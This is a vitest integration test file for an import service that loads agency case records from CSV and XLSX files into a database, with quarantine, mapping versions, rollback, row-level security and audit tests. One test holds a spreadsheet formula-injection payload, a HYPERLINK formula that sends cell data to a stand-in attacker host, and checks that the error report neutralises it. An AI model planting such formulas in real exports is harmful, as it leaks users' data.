import { createHash, randomUUID } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SystemActor } from '../../src/access/actor.ts'
import { withActor } from '../../src/db/scope.ts'
import { storedColumnNames } from '../../src/domains/imports/episodes.ts'
import { serviceEpisodeColumns } from '../../src/standard/serviceEpisodes.ts'
import { ImportFileError } from '../../src/domains/imports/errors.ts'
import { createImportService, type ImportService, ImportServiceError } from '../../src/domains/imports/service.ts'
import { extraFixtureAgencies, fictionalProfile, fixture, once, readJsonFixture } from '../../src/domains/imports/testSupport.ts'
import { loadPartnershipProfile } from '../../src/domains/partnership/service.ts'
import { engineUnderTest, openTestDatabase, type TestDatabase } from '../support/database.ts'
import { factories } from '../support/factories.ts'

const today = '2026-11-29'

/** A mapping for small hand-written files: Case Ref, Client ID, Referral Date, Forename, Ethnicity. */
const smallMapping = (over: Record<string, unknown> = {}) => ({
  format: 'hearth-mapping/1',
  agency: 'test',
  dataset: 'service-episodes',
  version: 1,
  standardVersion: '2026.1',
  columns: { 'Case Ref': 'record_id', 'Client ID': 'person_ref', 'Referral Date': 'referral_date', Forename: 'given_name', Ethnicity: 'ethnicity' },
  values: { ethnicity: { 'White British': 'white-british', 'White Irish': 'white-irish', 'Other White': 'white-other' } },
  ...over,
})

const csv = (lines: string[]) => new Uint8Array(Buffer.from(lines.join('\r\n') + '\r\n', 'utf8'))

/** n rows R001.. with the given ethnicity label. */
const bulk = (n: number, ethnicity: string) =>
  csv(['Case Ref,Client ID,Referral Date,Forename,Ethnicity', ...Array.from({ length: n }, (_, i) => `R${String(i + 1).padStart(3, '0')},P${i},2021-04-01,Ann,${ethnicity}`)])

async function rejection(p: Promise<unknown>): Promise<Error> {
  try {
    await p
  } catch (e) {
    return e as Error
  }
  throw new Error('expected a rejection')
}

describe(`imports into the database on ${engineUnderTest}`, () => {
  let database: TestDatabase
  let imports: ImportService

  beforeAll(async () => {
    database = await openTestDatabase()
    imports = createImportService({ db: database.db, engine: database.engine, today: () => today })
  })
  afterAll(() => database.drop())

  async function newPartnership() {
    const code = `nc-${randomUUID().slice(0, 8)}`
    const loaded = await loadPartnershipProfile(database.db, fictionalProfile(extraFixtureAgencies, code), { loadedBy: 'test' })
    const system: SystemActor = { label: 'cli:test', partnershipId: loaded.partnershipId }
    const agencyId = async (agencyCode: string) =>
      (await database.db.selectFrom('agency').where('partnership_id', '=', loaded.partnershipId).where('code', '=', agencyCode).select('id').executeTakeFirstOrThrow()).id
    return { partnershipId: loaded.partnershipId, system, agencyId }
  }
  type P = Awaited<ReturnType<typeof newPartnership>>

  const episodes = (p: P) =>
    database.db
      .selectFrom('service_episode')
      .where('partnership_id', '=', p.partnershipId)
      .select(['record_id', 'given_name', 'ethnicity', 'batch_id', sql<string>`date_of_birth::text`.as('date_of_birth')])
      .orderBy('record_id')
      .execute()
  const quarantine = (p: P) =>
    database.db
      .selectFrom('import_quarantine')
      .where('partnership_id', '=', p.partnershipId)
      .select(['batch_id', 'row_number', 'record_id', 'raw', 'problems'])
      .orderBy('record_id')
      .execute()

  it('imports the LibreOffice XLSX: the preview reports the unmapped value; the corrected mapping replaces the quarantined row', async () => {
    const p = await newPartnership()
    const first = await imports.stage(p.system, { source: fixture('idva-libreoffice.xlsx'), agencyCode: 'cambs-idva', mapping: readJsonFixture('idva-mapping.json') })
    expect(first.batch).toMatchObject({ status: 'staged', fileName: 'idva-libreoffice.xlsx', rowsRead: 5, rowsValid: 4, rowsQuarantined: 1, mappingVersion: 1, agencyCode: 'cambs-idva' })
    expect(first.meta).toMatchObject({ format: 'xlsx' })
    expect(first.unmappedValues).toEqual([{ column: 'Ethnicity', field: 'ethnicity', truncated: false, values: [{ value: 'White Eastern European', count: 1, rows: [4] }] }])
    expect(first.firstErrors).toEqual([expect.objectContaining({ rowNumber: 4, column: 'Ethnicity', value: 'White Eastern European', code: 'unmapped-value' })])
    expect(first.sampleRows[0]).toMatchObject({ record_id: 'I001', given_name: 'Renée', date_of_birth: '1985-02-14', ethnicity: 'white-british', service: 'idva', disability: ['none'] })
    expect(first.canCommit).toBe(true)
    expect(await episodes(p)).toEqual([]) // staged is not committed

    const c1 = await imports.commit(p.system, first.batch.id)
    expect(c1).toMatchObject({ status: 'committed', rowsCommitted: 4, rowsQuarantined: 1, quarantineCleared: 0 })
    expect((await episodes(p)).map((r) => r.record_id)).toEqual(['I001', 'I002', 'I004', 'I005'])
    const held = await quarantine(p)
    expect(held).toHaveLength(1)
    expect(held[0]).toMatchObject({ record_id: 'I003', row_number: 4 })
    expect(held[0]!.raw['Ethnicity']).toBe('White Eastern European')
    expect(held[0]!.problems).toEqual([expect.objectContaining({ code: 'unmapped-value', value: 'White Eastern European' })])

    // fix the mapping, save it as version 2, and import the same file with the saved mapping
    const fixed = readJsonFixture('idva-mapping.json') as { version: number; values: { ethnicity: Record<string, string> } }
    fixed.version = 2
    fixed.values.ethnicity['White Eastern European'] = 'white-other'
    expect(await imports.saveMapping(p.system, { agencyCode: 'cambs-idva', mapping: fixed })).toMatchObject({ version: 2, unchanged: false })
    const second = await imports.stage(p.system, { source: fixture('idva-libreoffice.xlsx'), agencyCode: 'cambs-idva' })
    expect(second.batch).toMatchObject({ mappingVersion: 2, rowsValid: 5, rowsQuarantined: 0 })
    expect(second.sameFileImported).toEqual([expect.objectContaining({ batchId: first.batch.id, mappingVersion: 1 })])
    const c2 = await imports.commit(p.system, second.batch.id)
    expect(c2).toMatchObject({ rowsCommitted: 5, rowsQuarantined: 0, quarantineCleared: 1 })
    const rows = await episodes(p)
    expect(rows.map((r) => r.record_id)).toEqual(['I001', 'I002', 'I003', 'I004', 'I005'])
    expect(rows.find((r) => r.record_id === 'I003')!.ethnicity).toBe('white-other')
    expect(new Set(rows.map((r) => r.batch_id))).toEqual(new Set([second.batch.id]))
    expect(await quarantine(p)).toEqual([])
  })

  it("imports LibreOffice's Windows-1252 CSV to exactly the rows of its XLSX", async () => {
    const p = await newPartnership()
    const mapping = readJsonFixture('idva-mapping.json') as { values: { ethnicity: Record<string, string> } }
    mapping.values.ethnicity['White Eastern European'] = 'white-other'
    const snapshot = async () =>
      (
        await database.db
          .selectFrom('service_episode')
          .where('partnership_id', '=', p.partnershipId)
          .select(storedColumnNames.map((c) => sql<string>`${sql.ref(c)}::text`.as(c)))
          .orderBy('record_id')
          .execute()
      ).map((r) => JSON.stringify(r))
    await imports.importFile(p.system, { source: fixture('idva-libreoffice.xlsx'), agencyCode: 'cambs-idva', mapping })
    const fromXlsx = await snapshot()
    const viaCsv = await imports.importFile(p.system, { source: fixture('idva-libreoffice-1252.csv'), agencyCode: 'cambs-idva', mapping })
    expect(viaCsv.preview.meta).toMatchObject({ format: 'csv', encoding: 'windows-1252' })
    expect(viaCsv.commit.rowsCommitted).toBe(5)
    expect(fromXlsx).toHaveLength(5)
    expect(await snapshot()).toEqual(fromXlsx)
    expect(fromXlsx.join()).toContain('Renée')
  })

  it('re-importing the same file is idempotent: nothing is doubled', async () => {
    const p = await newPartnership()
    const input = { source: fixture('agencies/marac.csv'), agencyCode: 'nc-marac', mapping: readJsonFixture('agencies/marac-mapping.json') }
    const one = await imports.importFile(p.system, input)
    const two = await imports.importFile(p.system, input)
    expect(one.commit.rowsCommitted).toBe(200)
    expect(two.commit.rowsCommitted).toBe(200)
    expect(two.preview.sameFileImported.map((s) => s.batchId)).toEqual([one.preview.batch.id])
    const rows = await episodes(p)
    expect(rows).toHaveLength(200)
    expect(new Set(rows.map((r) => r.batch_id))).toEqual(new Set([two.preview.batch.id]))
    expect((await imports.listBatches(p.system)).map((b) => b.status)).toEqual(['committed', 'committed'])
  })

  it('quarantine: a row with errors never changes the committed record; a corrected file replaces the quarantined rows; a repeat does not double them', async () => {
    const p = await newPartnership()
    const mapping = smallMapping()
    const fileA = csv(['Case Ref,Client ID,Referral Date,Forename,Ethnicity', 'R1,P1,2021-04-01,Ann,White British', 'R2,P2,2021-04-02,Bea,White Irish'])
    const fileB = csv([
      'Case Ref,Client ID,Referral Date,Forename,Ethnicity',
      'R1,P1,2021-04-01,Ann,Martian', // unmapped: quarantined, R1 keeps file A's values
      'R2,P2,2021-04-02,Beatrice,White Irish',
      'R3,P3,2021-13-45,Cat,White British', // not a date
    ])
    const fileC = csv(['Case Ref,Client ID,Referral Date,Forename,Ethnicity', 'R1,P1,2021-04-01,Ann,Other White', 'R3,P3,2021-04-03,Cat,White British'])

    await imports.importFile(p.system, { source: fileA, fileName: 'a.csv', agencyCode: 'test', mapping })
    const b = await imports.importFile(p.system, { source: fileB, fileName: 'b.csv', agencyCode: 'test', mapping })
    expect(b.commit).toMatchObject({ rowsCommitted: 1, rowsQuarantined: 2 })
    let rows = await episodes(p)
    expect(rows.map((r) => [r.record_id, r.given_name, r.ethnicity])).toEqual([
      ['R1', 'Ann', 'white-british'],
      ['R2', 'Beatrice', 'white-irish'],
    ])
    expect((await quarantine(p)).map((q) => [q.record_id, q.raw['Ethnicity'] ?? null])).toEqual([
      ['R1', 'Martian'],
      ['R3', 'White British'],
    ])

    // the same file again: its quarantine entries replace the earlier ones
    const again = await imports.importFile(p.system, { source: fileB, fileName: 'b.csv', agencyCode: 'test', mapping })
    expect(again.commit.quarantineCleared).toBe(2)
    expect(await quarantine(p)).toHaveLength(2)

    // the corrected file clears them
    const c = await imports.importFile(p.system, { source: fileC, fileName: 'c.csv', agencyCode: 'test', mapping })
    expect(c.commit).toMatchObject({ rowsCommitted: 2, rowsQuarantined: 0, quarantineCleared: 2 })
    expect(await quarantine(p)).toEqual([])
    rows = await episodes(p)
    expect(rows.map((r) => [r.record_id, r.ethnicity])).toEqual([
      ['R1', 'white-other'],
      ['R2', 'white-irish'],
      ['R3', 'white-british'],
    ])
  })

  for (const way of ['stage, then commit', 'importFile'] as const) {
    it(`half-written protection (${way}): an error mid-commit rolls back that chunk only; nothing is lost and committing again finishes`, async () => {
      const p = await newPartnership()
      const small = createImportService({ db: database.db, engine: database.engine, today: () => today, chunkSize: 100 })
      await small.importFile(p.system, { source: bulk(300, 'White British'), fileName: 'v1.csv', agencyCode: 'test', mapping: smallMapping() })
      const v2 = { source: bulk(300, 'White Irish'), fileName: 'v2.csv', agencyCode: 'test', mapping: smallMapping() }

      // a database failure on the 250th row, which is in the third chunk of 100
      await sql.raw(`CREATE FUNCTION test_fail_r250() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN IF NEW.record_id = 'R250' THEN RAISE EXCEPTION 'simulated failure writing R250'; END IF; RETURN NEW; END $$`).execute(database.db)
      await sql.raw('CREATE TRIGGER test_fail_r250 BEFORE INSERT OR UPDATE ON service_episode FOR EACH ROW EXECUTE FUNCTION test_fail_r250()').execute(database.db)
      let batchId: string
      try {
        if (way === 'importFile') {
          // on PostgreSQL the commit alongside the reading rolls back whole; then the chunked commit meets the same failure
          const error = await rejection(small.importFile(p.system, v2))
          expect(error.message).toContain('simulated failure writing R250')
          batchId = (await small.listBatches(p.system))[0]!.id
        } else {
          const staged = await small.stage(p.system, v2)
          batchId = staged.batch.id
          const error = await rejection(small.commit(p.system, batchId))
          expect(error.message).toContain('simulated failure writing R250')
        }
      } finally {
        await sql.raw('DROP TRIGGER test_fail_r250 ON service_episode').execute(database.db)
        await sql.raw('DROP FUNCTION test_fail_r250()').execute(database.db)
      }
      let rows = await episodes(p)
      expect(rows).toHaveLength(300)
      const by = (ethnicity: string) => rows.filter((r) => r.ethnicity === ethnicity).map((r) => r.record_id)
      expect(by('white-irish')).toHaveLength(200) // chunks 1 and 2
      expect(by('white-irish').at(-1)).toBe('R200')
      expect(by('white-british')).toHaveLength(100) // chunk 3 rolled back entirely (R201-R300), earlier values intact
      expect(by('white-british')[0]).toBe('R201')
      const interrupted = await small.preview(p.system, batchId)
      expect(interrupted.batch).toMatchObject({ status: 'committing', rowsCommitted: 200, errorCode: 'commit-interrupted' })
      expect(interrupted.canCommit).toBe(true)

      const finished = await small.commit(p.system, batchId)
      expect(finished).toMatchObject({ status: 'committed', rowsCommitted: 300 })
      rows = await episodes(p)
      expect(rows).toHaveLength(300)
      expect(rows.every((r) => r.ethnicity === 'white-irish')).toBe(true)
    })
  }

  it('a batch whose last step fails can only go forward: commit finishes it, discard is refused', async () => {
    const p = await newPartnership()
    const small = createImportService({ db: database.db, engine: database.engine, today: () => today, chunkSize: 100 })
    await sql.raw(`CREATE FUNCTION test_fail_finish() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN IF NEW.status = 'committed' AND NEW.file_name = 'finish.csv' THEN RAISE EXCEPTION 'simulated failure finishing'; END IF; RETURN NEW; END $$`).execute(database.db)
    await sql.raw('CREATE TRIGGER test_fail_finish BEFORE UPDATE ON import_batch FOR EACH ROW EXECUTE FUNCTION test_fail_finish()').execute(database.db)
    try {
      const error = await rejection(small.importFile(p.system, { source: bulk(250, 'White Irish'), fileName: 'finish.csv', agencyCode: 'test', mapping: smallMapping() }))
      expect(error.message).toContain('simulated failure finishing')
    } finally {
      await sql.raw('DROP TRIGGER test_fail_finish ON import_batch').execute(database.db)
      await sql.raw('DROP FUNCTION test_fail_finish()').execute(database.db)
    }
    const [batch] = await small.listBatches(p.system)
    expect(batch).toMatchObject({ fileName: 'finish.csv', status: 'committing' })
    expect(await episodes(p)).toHaveLength(250) // every chunk is in; only the last step failed
    await expect(small.discard(p.system, batch!.id)).rejects.toMatchObject({ code: 'invalid-state' })
    expect(await small.commit(p.system, batch!.id)).toMatchObject({ status: 'committed', rowsCommitted: 250 })
    expect(await episodes(p)).toHaveLength(250)
  })

  it('a file error found part way through the file (an unclosed quote) keeps nothing and changes nothing', async () => {
    const p = await newPartnership()
    const small = createImportService({ db: database.db, engine: database.engine, today: () => today, chunkSize: 50 })
    await small.importFile(p.system, { source: bulk(10, 'White British'), fileName: 'v1.csv', agencyCode: 'test', mapping: smallMapping() })
    const lines = Array.from({ length: 260 }, (_, i) => `R${String(i + 1).padStart(3, '0')},P${i},2021-04-01,Ann,White Irish`)
    lines.push('R999,P999,2021-04-01,"never closed,White Irish', 'R998,P1,2021-04-01,Ann,White Irish')
    const broken = csv(['Case Ref,Client ID,Referral Date,Forename,Ethnicity', ...lines])
    // staging only, and importing in one go (where, on PostgreSQL, chunks are committed alongside the reading)
    for (const attempt of [() => small.stage(p.system, { source: broken, fileName: 'broken.csv', agencyCode: 'test', mapping: smallMapping() }),
      () => small.importFile(p.system, { source: broken, fileName: 'broken.csv', agencyCode: 'test', mapping: smallMapping() })]) {
      const error = await rejection(attempt())
      expect(error).toBeInstanceOf(ImportFileError)
      expect((error as ImportFileError).code).toBe('malformed-csv')
      const [failed] = await small.listBatches(p.system)
      expect(failed).toMatchObject({ fileName: 'broken.csv', status: 'failed', errorCode: 'malformed-csv', rowsCommitted: 0 })
      const left = await database.db.selectFrom('import_staged_chunk').where('batch_id', '=', failed!.id).select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()
      expect(Number(left.n)).toBe(0)
      expect(await quarantine(p)).toEqual([])
      const rows = await episodes(p)
      expect(rows).toHaveLength(10)
      expect(rows.every((r) => r.ethnicity === 'white-british')).toBe(true)
      await expect(small.commit(p.system, failed!.id)).rejects.toMatchObject({ code: 'invalid-state' })
    }
  })

  it('refuses an empty file and a header-only file, recording the failed attempt', async () => {
    const p = await newPartnership()
    const mapping = readJsonFixture('idva-mapping.json')
    for (const [name, code] of [['empty.csv', 'empty-file'], ['header-only.csv', 'header-only']] as const) {
      const error = await rejection(imports.stage(p.system, { source: fixture(name), agencyCode: 'cambs-idva', mapping }))
      expect(error).toBeInstanceOf(ImportFileError)
      expect((error as ImportFileError).code).toBe(code)
    }
    expect((await imports.listBatches(p.system)).map((b) => [b.fileName, b.status, b.errorCode])).toEqual([
      ['header-only.csv', 'failed', 'header-only'],
      ['empty.csv', 'failed', 'empty-file'],
    ])
  })

  it('neutralises formula injection in the error report; the stored value is unchanged', async () => {
    const p = await newPartnership()
    const result = await imports.importFile(p.system, { source: fixture('formula-injection.csv'), agencyCode: 'test', mapping: smallMapping() })
    expect(result.commit).toMatchObject({ rowsCommitted: 1, rowsQuarantined: 1 })
    expect((await episodes(p))[0]!.given_name).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")')
    let report = ''
    for await (const text of imports.errorReport(p.system, result.preview.batch.id)) report += text
    const lines = report.replace(/^\uFEFF/, '').trimEnd().split('\r\n')
    expect(lines[0]).toBe('"row","column","value","message"')
    expect(lines[1]).toMatch(/^"3","Ethnicity","'=1\+2",/)
    expect(report).not.toMatch(/(^|,)"=/m)
  })

  it('streams a long error report a page at a time', async () => {
    const p = await newPartnership()
    const lines = Array.from({ length: 1500 }, (_, i) => `R${i},P${i},31/02/2021,Ann,White British`)
    const result = await imports.importFile(p.system, {
      source: csv(['Case Ref,Client ID,Referral Date,Forename,Ethnicity', ...lines]),
      agencyCode: 'test',
      mapping: smallMapping({ dateFormat: 'DD/MM/YYYY' }),
    })
    expect(result.commit).toMatchObject({ rowsCommitted: 0, rowsQuarantined: 1500 })
    let report = ''
    for await (const text of imports.errorReport(p.system, result.preview.batch.id, { bom: false })) report += text
    const reportLines = report.trimEnd().split('\r\n')
    expect(reportLines).toHaveLength(1501)
    expect(reportLines[1]).toMatch(/^"2","Referral Date","31\/02\/2021",/)
    expect(reportLines[1500]).toMatch(/^"1501",/)
  })

  it('spools a one-shot upload to disk, takes its checksum, and removes the spooled copy', async () => {
    const p = await newPartnership()
    const spoolDir = mkdtempSync(join(tmpdir(), 'hearth-spool-'))
    const spooling = createImportService({ db: database.db, engine: database.engine, today: () => today, spoolDir })
    const bytes = new Uint8Array(readFileSync(fixture('agencies/refuge.csv')))
    const preview = await spooling.stage(p.system, { source: once(bytes, 1000), fileName: 'refuge.csv', agencyCode: 'heron-house', mapping: readJsonFixture('agencies/refuge-mapping.json') })
    expect(preview.batch).toMatchObject({ rowsRead: 80, rowsValid: 80, checksum: createHash('sha256').update(bytes).digest('hex'), fileSize: bytes.length })
    expect(preview.meta).toMatchObject({ encoding: 'windows-1252' })
    expect(readdirSync(spoolDir)).toEqual([])
    await spooling.discard(p.system, preview.batch.id)
    expect((await spooling.listBatches(p.system))[0]!.status).toBe('discarded')
    const staged = await database.db.selectFrom('import_staged_chunk').where('batch_id', '=', preview.batch.id).selectAll().execute()
    expect(staged).toEqual([])
  })

  it('saves mappings as versions and refuses a changed mapping under an old version number', async () => {
    const p = await newPartnership()
    const v1 = smallMapping()
    expect(await imports.saveMapping(p.system, { agencyCode: 'test', mapping: v1 })).toMatchObject({ version: 1, unchanged: false })
    expect(await imports.saveMapping(p.system, { agencyCode: 'test', mapping: v1 })).toMatchObject({ version: 1, unchanged: true })
    await expect(imports.saveMapping(p.system, { agencyCode: 'test', mapping: { ...v1, dateFormat: 'DD/MM/YYYY' } })).rejects.toMatchObject({ code: 'mapping-version' })
    await expect(imports.saveMapping(p.system, { agencyCode: 'nc-marac', mapping: v1 })).rejects.toMatchObject({ code: 'mapping-mismatch' })
    await expect(imports.saveMapping(p.system, { agencyCode: 'test', mapping: { ...v1, columns: { 'Case Ref': 'no_such_column' } } })).rejects.toMatchObject({ code: 'invalid-mapping' })
    await imports.saveMapping(p.system, { agencyCode: 'test', mapping: { ...v1, version: 2, dateFormat: 'DD/MM/YYYY' } })
    expect((await imports.currentMapping(p.system, 'test'))?.version).toBe(2)
    expect((await imports.listMappings(p.system)).map((m) => [m.agencyCode, m.version])).toEqual([
      ['test', 2],
      ['test', 1],
    ])
    // without a mapping, the agency's latest saved one is used
    const preview = await imports.stage(p.system, { source: csv(['Case Ref,Client ID,Referral Date,Forename,Ethnicity', 'R1,P1,25/12/2021,Ann,White British']), agencyCode: 'test' })
    expect(preview.batch).toMatchObject({ mappingVersion: 2, rowsValid: 1 })
    await expect(imports.stage(p.system, { source: bulk(1, 'White British'), agencyCode: 'no-such-agency' })).rejects.toMatchObject({ code: 'not-found' })
  })

  it('checks a file without writing anything (dry run)', async () => {
    const p = await newPartnership()
    const errors: unknown[] = []
    const summary = await imports.check(p.system, {
      source: fixture('idva-libreoffice.xlsx'),
      agencyCode: 'cambs-idva',
      mapping: readJsonFixture('idva-mapping.json'),
      onError: (e) => void errors.push(...e),
    })
    expect(summary).toMatchObject({ rowsRead: 5, rowsValid: 4, rowsWithErrors: 1 })
    expect(errors).toHaveLength(1)
    expect(await imports.listBatches(p.system)).toEqual([])
  })

  it('runs as the signed-in user under row-level security: an analyst may import, a referrer may not, another partnership sees nothing', async () => {
    const p = await newPartnership()
    const f = factories(database.db)
    const idvaAgency = await p.agencyId('nc-idva-service')
    const analyst = await f.newUser(p.partnershipId, { agencyId: idvaAgency, roles: ['analyst'] })
    const referrer = await f.newUser(p.partnershipId, { agencyId: idvaAgency, roles: ['referrer'] })
    const manager = await f.newUser(p.partnershipId, { agencyId: idvaAgency, roles: ['idva-manager'] })
    const input = { source: fixture('agencies/idva.csv'), agencyCode: 'nc-idva-service', mapping: readJsonFixture('agencies/idva-mapping.json') }

    const staged = await imports.stage(analyst, input)
    expect(staged.batch).toMatchObject({ rowsValid: 200, createdBy: analyst.displayName })
    await imports.commit(analyst, staged.batch.id)
    await imports.importFile(p.system, { source: fixture('agencies/police.csv'), agencyCode: 'moorshire-police', mapping: readJsonFixture('agencies/police-mapping.json') })

    await expect(imports.stage(referrer, input)).rejects.toBeInstanceOf(ImportServiceError)
    // row-level security hides the batch itself from a referrer
    await expect(imports.preview(referrer, staged.batch.id)).rejects.toMatchObject({ code: 'not-found' })

    // the database itself refuses, whatever the service checks
    await expect(
      withActor(database.db, referrer, (tx) =>
        tx.updateTable('service_episode').set({ given_name: 'X' }).where('partnership_id', '=', p.partnershipId).execute().then((r) => Number(r[0]!.numUpdatedRows)),
      ),
    ).resolves.toBe(0)
    const visible = (actor: typeof analyst) =>
      withActor(database.db, actor, async (tx) => Number((await tx.selectFrom('service_episode').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n))
    expect(await visible(referrer)).toBe(0)
    expect(await visible(manager)).toBe(200) // report.read for their own agency: the IDVA episodes, not the police's
    expect(await visible(analyst)).toBe(400)

    const other = await newPartnership()
    const outsider = await f.newUser(other.partnershipId, { agencyId: await other.agencyId('nc-idva-service'), roles: ['analyst'] })
    await expect(imports.preview(outsider, staged.batch.id)).rejects.toMatchObject({ code: 'not-found' })
    expect(await visible(outsider)).toBe(0)
  })

  it('records every import in the audit log', async () => {
    const p = await newPartnership()
    const result = await imports.importFile(p.system, { source: fixture('agencies/housing-register.csv'), agencyCode: 'northmoor-housing', mapping: readJsonFixture('agencies/housing-register-mapping.json') })
    const events = await database.db
      .selectFrom('audit_event')
      .where('partnership_id', '=', p.partnershipId)
      .where('action', '=', 'IMPORT')
      .select(['actor_label', 'subject_id', 'details'])
      .orderBy('seq')
      .execute()
    expect(events.map((e) => [e.actor_label, e.subject_id, (e.details as { step: string }).step])).toEqual([
      ['cli:test', result.preview.batch.id, 'staged'],
      ['cli:test', result.preview.batch.id, 'committed'],
    ])
    expect(events[1]!.details).toMatchObject({ agency: 'northmoor-housing', rowsCommitted: 100, rowsQuarantined: 0, checksum: result.preview.batch.checksum })
  })

  it('stores every standard column (the migration and the standard agree)', async () => {
    const columnsOf = async (table: string) =>
      new Set((await sql<{ column_name: string }>`SELECT column_name FROM information_schema.columns WHERE table_name = ${table}`.execute(database.db)).rows.map((c) => c.column_name))
    const episode = await columnsOf('service_episode')
    expect(storedColumnNames.filter((c) => !episode.has(c))).toEqual([])
    const staged = await columnsOf('import_staged_chunk')
    expect(serviceEpisodeColumns.map((c) => c.name).filter((c) => !staged.has(c))).toEqual([])
  })
})
